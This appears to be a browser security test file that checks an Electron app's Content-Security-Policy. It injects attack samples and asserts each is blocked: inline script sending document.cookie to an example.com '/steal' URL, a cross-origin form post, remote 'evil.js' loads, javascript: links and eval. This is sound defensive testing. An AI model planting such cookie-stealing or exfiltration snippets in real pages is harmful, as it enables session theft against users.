/**
 * What the browser itself enforces on the real renderer, served by the harness with the app's CSP
 * header (electron/services/serving/content-security-policy.ts): injected inline script, inline
 * handlers and javascript: URLs never run (so they cannot navigate, open windows or exfiltrate),
 * eval is refused, forms cannot post anywhere, and fetch/XHR/WebSocket/images/scripts to a remote
 * origin are refused before any request is made. Electron's own guards (will-navigate,
 * setWindowOpenHandler, permission handlers) cannot run here; they are unit-tested in
 * test/electron/main/window/window-security.test.ts.
 *
 * The browser never reaches a remote host: every request of the browser context is routed, and
 * anything not on 127.0.0.1 is aborted and recorded. WebSockets cannot be routed without replacing
 * the page's WebSocket (which would hide the CSP), so the socket attempt targets a `.invalid` host
 * (RFC 2606: never resolves). Attacks run from page tasks (setTimeout), not from DevTools
 * evaluation, which Chromium exempts from the page's eval rules.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startHarness, type Harness } from '../harness/server';
import { isLoopbackHost } from '../harness/loopback-fetch';
import { launchBrowser } from './support/browser';

const REMOTE = 'https://example.com';

interface Violation {
  directive: string;
  blocked: string;
  source: string;
}

interface AppPage {
  page: Page;
  context: BrowserContext;
  /** Every non-loopback URL the browser tried to load (all aborted). */
  remote: string[];
  violations(): Promise<Violation[]>;
  popups: Page[];
}

let browser: Browser;
let harness: Harness;
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  browser = await launchBrowser();
  harness = await startHarness();
});
afterEach(async () => {
  await Promise.all(contexts.splice(0).map((context) => context.close()));
});
afterAll(async () => {
  await harness?.close();
  await browser?.close();
});

async function openApp(): Promise<AppPage> {
  const context = await browser.newContext();
  contexts.push(context);
  const remote: string[] = [];
  await context.route('**/*', async (route) => {
    const url = route.request().url();
    if (isLoopbackHost(new URL(url).hostname)) return route.continue();
    remote.push(url);
    return route.abort('blockedbyclient');
  });
  const popups: Page[] = [];
  context.on('page', (page) => popups.push(page));
  const page = await context.newPage();
  // Installed by the test runner before any page script; CSP does not apply to it.
  await page.addInitScript(() => {
    const seen: Array<{ directive: string; blocked: string; source: string }> = [];
    Object.defineProperty(window, '__violations', { value: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI, source: event.sourceFile }));
  });
  await page.goto(harness.url);
  await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toContain('Storyboards');
  popups.splice(0); // the first page itself
  return { page, context, remote, popups, violations: () => page.evaluate(() => [...(window as unknown as { __violations: Violation[] }).__violations]) };
}

/** Runs `attack` as an ordinary page task and waits for it to settle. */
async function inPageTask(page: Page, attack: () => void | Promise<void>): Promise<void> {
  await page.evaluate(`new Promise((done) => setTimeout(() => Promise.resolve().then(${attack.toString()}).catch(() => undefined).finally(done), 0))`);
  await page.waitForTimeout(300);
}

const flag = (page: Page, name: string) => page.evaluate((key) => (window as unknown as Record<string, unknown>)[key], name);

describe('the renderer under its Content-Security-Policy', () => {
  it('boots with no blocked resource and without contacting anything but 127.0.0.1', async () => {
    const app = await openApp();
    const violations = await app.violations();
    // Nothing at all is blocked on a normal start (zod runs jitless, see shared/ipc/create-api.ts).
    expect(violations).toEqual([]);
    expect(app.remote).toEqual([]);
    expect(harness.outbound.requests.every((request) => request.allowed && isLoopbackHost(new URL(request.url).hostname))).toBe(true);
  });

  it('never runs an injected inline script, so it cannot navigate, open windows or exfiltrate', async () => {
    const { page, remote, popups, violations } = await openApp();
    const before = page.url();
    await page.evaluate((target) => {
      const script = document.createElement('script');
      script.textContent = `window.__pwned = true; window.open('${target}/popup'); fetch('${target}/steal?c=' + document.cookie); location.href = '${target}/phish';`;
      document.body.append(script);
      // A markup-only injection: an inline handler and a javascript: link.
      const holder = document.createElement('div');
      holder.innerHTML = `<img src="/missing.png" onerror="window.__pwned = true"><a id="js-link" href="javascript:window.__pwned = true">x</a>`;
      document.body.append(holder);
    }, REMOTE);
    await page.click('#js-link');
    await page.waitForTimeout(500);

    expect(await flag(page, '__pwned')).toBeUndefined();
    expect(page.url()).toBe(before);
    expect(popups).toEqual([]);
    expect(remote).toEqual([]);
    const directives = (await violations()).map((violation) => violation.directive);
    expect(directives).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr']));
  });

  it('refuses eval and new Function', async () => {
    const { page } = await openApp();
    await inPageTask(page, () => {
      const results: string[] = [];
      // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-return, @typescript-eslint/no-unsafe-call -- the CSP must refuse exactly these
      for (const attempt of [() => eval('1 + 1'), () => new Function('return 1')()]) {
        try {
          attempt();
          results.push('ran');
        } catch (error) {
          results.push((error as Error).name);
        }
      }
      (window as unknown as { __evalResults: string[] }).__evalResults = results;
    });
    expect(await flag(page, '__evalResults')).toEqual(['EvalError', 'EvalError']);
  });

  it('refuses fetch, XHR, WebSocket, images, scripts and styles from a remote origin before any request is made', async () => {
    const { page, remote, violations } = await openApp();
    await inPageTask(page, async () => {
      const target = 'https://example.com';
      const outcomes: Record<string, string> = {};
      await fetch(`${target}/fetch`).then(() => (outcomes.fetch = 'loaded'), () => (outcomes.fetch = 'blocked'));
      await new Promise<void>((done) => {
        const xhr = new XMLHttpRequest();
        xhr.onload = () => ((outcomes.xhr = 'loaded'), done());
        xhr.onerror = () => ((outcomes.xhr = 'blocked'), done());
        xhr.open('GET', `${target}/xhr`);
        xhr.send();
      });
      await new Promise<void>((done) => {
        try {
          const socket = new WebSocket('wss://castboard-audit.invalid/socket');
          socket.onopen = () => ((outcomes.websocket = 'opened'), done());
          socket.onerror = () => ((outcomes.websocket = 'blocked'), done());
        } catch {
          outcomes.websocket = 'blocked';
          done();
        }
      });
      const load = (name: string, element: HTMLImageElement | HTMLScriptElement | HTMLLinkElement, point: () => void) =>
        new Promise<void>((done) => {
          element.onload = () => ((outcomes[name] = 'loaded'), done());
          element.onerror = () => ((outcomes[name] = 'blocked'), done());
          document.head.append(element);
          point();
        });
      const image = new Image();
      const script = document.createElement('script');
      const style = Object.assign(document.createElement('link'), { rel: 'stylesheet' });
      await Promise.all([
        load('image', image, () => (image.src = `${target}/pixel.png`)),
        load('script', script, () => (script.src = `${target}/evil.js`)),
        load('style', style, () => (style.href = `${target}/evil.css`)),
      ]);
      (window as unknown as { __outcomes: Record<string, string> }).__outcomes = outcomes;
    });
    const outcomes = (await flag(page, '__outcomes')) as Record<string, string>;
    expect(outcomes).toEqual({ fetch: 'blocked', xhr: 'blocked', websocket: 'blocked', image: 'blocked', script: 'blocked', style: 'blocked' });
    const blocked = (await violations()).map((violation) => `${violation.directive} ${violation.blocked}`);
    expect(blocked).toEqual(expect.arrayContaining([
      `connect-src ${REMOTE}/fetch`,
      `connect-src ${REMOTE}/xhr`,
      'connect-src wss://castboard-audit.invalid/socket',
      `img-src ${REMOTE}/pixel.png`,
      `script-src-elem ${REMOTE}/evil.js`,
      `style-src-elem ${REMOTE}/evil.css`,
    ]));
    // The CSP stopped them in the renderer: not one reached the network layer.
    expect(remote).toEqual([]);
  });

  it('refuses to submit a form to another origin', async () => {
    const { page, remote, violations } = await openApp();
    const before = page.url();
    await inPageTask(page, () => {
      const form = document.createElement('form');
      form.action = 'https://example.com/steal';
      form.method = 'post';
      document.body.append(form);
      form.requestSubmit();
    });
    expect(page.url()).toBe(before);
    expect((await violations()).map((violation) => violation.directive)).toContain('form-action');
    expect(remote).toEqual([]);
  });

  it('gives window.open no usable handle on a remote page, and the page never loads', async () => {
    // Electron denies window.open outright (setWindowOpenHandler, unit-tested); a plain browser
    // opens the popup, so here the app relies on COOP: the opener is cut off from it.
    const { page, remote } = await openApp();
    await inPageTask(page, () => {
      (window as unknown as { __popup: Window | null }).__popup = window.open('https://example.com/');
    });
    await expect.poll(() => page.evaluate(() => {
      const popup = (window as unknown as { __popup: Window | null }).__popup;
      return popup === null || popup.closed;
    })).toBe(true);
    // The only remote request of this page is the popup's navigation, and it was aborted by the test route.
    expect(remote).toEqual(['https://example.com/']);
  });
});
